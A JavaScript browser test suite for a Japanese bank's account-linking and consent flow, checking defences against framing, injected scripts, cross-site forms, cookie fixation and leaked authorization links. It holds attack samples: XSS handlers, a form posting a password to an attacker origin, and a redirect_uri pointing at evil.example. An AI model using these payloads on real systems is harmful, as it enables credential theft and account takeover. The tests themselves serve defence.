// What other sites try with a customer's browser: frames, forms, planted cookies, links that leaked. In real Chromium.

import assert from "node:assert/strict";
import { test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { launch } from "./support/browser.js";
import { setStage } from "./support/stage.js";
import { openStranger } from "./support/stranger.js";
import { Walk, AOBA, MINATO, userOf } from "./support/walk.js";

const stage = setStage();
/** How long a report may take to the log, in milliseconds. */
const REPORT_MS = 10_000;

/** A person whose browser meets attacks, so that its console may complain. */
async function victim(t, browser = stage.browser, options = {}) {
  const context = await browser.newContext({ locale: "ja-JP", ignoreHTTPSErrors: true, ...options });
  t.after(() => context.close());
  const page = await context.newPage();
  return { context, page, walk: new Walk(page, stage.demo, { looks: false }) };
}

const bank = (path) => `${stage.demo.origins[0]}/${MINATO}${path}`;
const reports = (directive) =>
  stage.demo.log().split("\n").filter((line) => line.includes("csp_report") && line.includes(directive)).length;

/** As many reports of a directive as this are in the log. */
async function reported(directive, count) {
  for (const end = Date.now() + REPORT_MS; reports(directive) < count; await pause(20)) {
    assert.ok(Date.now() < end, `${reports(directive)} reports of ${directive}, not ${count}`);
  }
}

test("A-089 R-191 no page can be framed, and each try is reported", async (t) => {
  const { page, walk, context } = await victim(t);
  const stranger = await openStranger(t);
  const spy = await context.newPage();
  let tries = 0;
  const frame = async (url) => {
    for (const site of [stranger.near, stranger.far]) {
      await spy.goto(site + stranger.framing(url));
      const [, framed] = spy.frames();
      assert.match(framed.url(), /^(chrome-error:\/\/chromewebdata\/)?$/, `${url} in a frame of ${site}`);
      tries += 1;
    }
  };
  await walk.begin();
  await frame(page.url());
  await frame(page.url().replace(stage.demo.origins[0], stage.demo.certificate_origin).replace("login", "certificate"));
  await walk.logInAs("aoi-master");
  await walk.arrive("operations");
  await frame(page.url());
  await walk.click("next");
  await walk.arrive("pins");
  await frame(page.url());
  await walk.registerPins({ 2000002: "7391" });
  await frame(page.url());
  await walk.click("confirm");
  await walk.arrive("permission");
  await frame(page.url());
  await walk.toMyLinkages("aoi-master");
  for (const path of ["/", "/terms/2026-04", "/privacy", "/my/login", "/my/linkages", "/api/", "/authorize", "/jwks"]) {
    await frame(bank(path));
  }
  await frame(`${stage.demo.origins[0]}/`);
  await frame(`${stage.demo.origins[0]}/nowhere`);
  await reported("frame-ancestors", tries);
});

test("A-121 R-191 what somebody got into a page does nothing, and is reported", async (t) => {
  const { page, walk } = await victim(t);
  const stranger = await openStranger(t);
  await walk.begin();
  await page.evaluate((origin) => {
    const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
    const script = document.createElement("script");
    script.textContent = "globalThis.struck = true";
    document.body.append(script);
    add(`<img src="${origin}/x.png" onerror="globalThis.struck = true"><svg onload="globalThis.struck = true"></svg>`);
    add(`<style>h1 { color: red }</style><iframe src="${origin}/frame"></iframe><base href="${origin}/">`);
    add(`<form id="steal" method="post" action="${origin}/steal"><input name="password"></form>`);
  }, stranger.far);
  await page.locator("#steal").evaluate((form) => form.submit());
  for (const directive of ["script-src-elem", "script-src-attr", "img-src", "style-src-elem", "base-uri", "form-action"]) {
    await reported(directive, 1);
  }
  assert.equal(await page.evaluate(() => globalThis.struck), undefined);
  assert.ok(page.url().endsWith("/login"), "the form led nowhere");
  assert.equal(await page.evaluate(() => document.baseURI), page.url());
});

test("A-088 R-197 forms of other sites are refused on every screen, even with the right token", async (t) => {
  const { page, walk, context } = await victim(t);
  const stranger = await openStranger(t);
  const spy = await context.newPage();
  const attack = async (screen) => {
    const token = {};
    for (const name of ["csrf", "version"]) {
      token[name] = await page.locator(`main input[name=${name}]`).first().getAttribute("value");
    }
    const base = page.url().replace(/[^/]+$/, "");
    const fields = { ...token, login_id: "sakura-master", password: userOf(stage.demo, "sakura-master").password };
    Object.assign(fields, { operation: "balances", action: "deny", intent: "yes" });
    for (const action of [screen, "cancel"]) {
      for (const [site, hidden] of [[stranger.near, false], [stranger.far, false], [stranger.near, true]]) {
        await spy.goto(site + stranger.sending(base + action, fields, { hidden }), { waitUntil: "commit" });
        await spy.waitForURL(base + action);
        // From another site, and from a frame without an origin, the cookie does not come along at all.
        const alone = site === stranger.far || hidden;
        const refused = alone ? /この手続きは続けられません/ : /送信された内容を受け付けられませんでした/;
        assert.match(await spy.textContent("h1"), refused, `${action} from ${site}, hidden: ${hidden}`);
      }
    }
    await page.reload();
    assert.ok(page.url().endsWith(`/${screen}`), "the walk is unharmed");
    assert.equal(await page.locator("main input[name=version]").first().getAttribute("value"), token.version);
  };
  await walk.begin();
  await attack("login");
  await walk.logInAs("sakura-master");
  await walk.arrive("operations");
  await attack("operations");
  await walk.click("next");
  await walk.arrive("permission");
  await attack("permission");
  await walk.allow();
  await walk.linked();
});

test("A-086 R-196 a cookie planted before the login gains its planter nothing", async (t) => {
  const attacker = await victim(t);
  await attacker.walk.begin();
  const planted = (await attacker.context.cookies()).find(({ name }) => name === `renkei-${MINATO}`);
  const { page, walk, context } = await victim(t);
  const stranger = await openStranger(t);
  // Cookies know no port, so a neighbour on the same host can set one.
  const trap = stranger.show("<title>x</title>", { "set-cookie": `${planted.name}=${planted.value}; Path=/` });
  await page.goto(stranger.near + trap);
  await walk.begin();
  const mine = async () => (await context.cookies(bank("/"))).find(({ name }) => name === planted.name).value;
  assert.equal(await mine(), planted.value, "it was planted");
  await walk.logInAs("midori-master");
  await walk.arrive("operations");
  assert.notEqual(await mine(), planted.value);
  for (const url of [page.url(), attacker.page.url()]) {
    await attacker.page.goto(url);
    assert.match(await attacker.walk.text("h1"), /この手続きは続けられません/);
  }
  await walk.click("cancel");
  await walk.returned();
});

test("R-187 A-020 a link that leaked is finished in another browser for nobody", async (t) => {
  const { page, walk } = await victim(t);
  const linked = async () => {
    await page.goto(stage.demo.partner_app);
    return page.locator("a[href^='/linkages/']").count();
  };
  const before = await linked();
  const opened = page.waitForRequest(/\/authorize\?/);
  await walk.begin();
  const leaked = (await opened).url();
  const thief = await victim(t);
  const evil = "&redirect_uri=https%3A%2F%2Fevil.example%2F&state=evil&return_to=%2F%2Fevil.example&lang=ja";
  await thief.page.goto(leaked + evil);
  await thief.walk.logInAs("minato-master");
  await thief.walk.chooseOperations();
  await thief.page.waitForURL(/\/(pins|existing|permission)$/);
  if (thief.page.url().endsWith("/pins")) {
    const { number, pin } = userOf(stage.demo, "minato-master").accounts.find((account) => !account.registered);
    await thief.walk.registerPins({ [number]: pin });
    await thief.walk.click("confirm");
  }
  await thief.walk.allow();
  await thief.page.waitForURL((url) => url.href.startsWith(`${stage.demo.partner_app}/callback`));
  assert.ok(await thief.page.isVisible("#problem"), "the partner listens to the browser it sent out, and to no other");
  // Whoever was sent out with it is told that it was finished, and is sent nowhere.
  await walk.logInAs("aoi-master");
  await walk.arrive("ended");
  assert.match(await walk.text("h1"), /この手続きは別の画面で終わっています/);
  assert.equal(await page.isVisible("#way-on"), false);
  assert.equal(await linked(), before, "the partner has nothing of it");
});

/** Goes back, and waits for whatever that shows: a page fetched anew, or one the browser kept. */
async function back(page) {
  await page.evaluate(() => {
    globalThis.left = true;
  });
  await page.goBack({ waitUntil: "commit" });
  await page.waitForFunction(() => !globalThis.left && document.querySelector("h1"));
}

test("R-198 Back after the end shows the end, also where the browser keeps pages whole", async (t) => {
  const browser = await launch({ ignoreDefaultArgs: ["--disable-back-forward-cache"] });
  t.after(() => browser.close());
  const { page, walk } = await victim(t, browser);
  await walk.toPermission("wakaba-master", AOBA);
  await walk.allow();
  await walk.linked();
  await back(page);
  assert.match(await walk.text("h1"), /この手続きは完了しています/);
  assert.equal(await page.isVisible("#allow"), false);
  await walk.toMyLinkages("wakaba-master", AOBA);
  await walk.click("linkage-1");
  await page.waitForSelector("#stop");
  await walk.click("logout");
  await walk.arrive("login");
  await back(page);
  assert.equal(await page.isVisible("#stop"), false);
  await walk.begin();
  await walk.click("cancel");
  await walk.returned();
  await back(page);
  assert.equal(await page.isVisible("#login-id"), false);
});
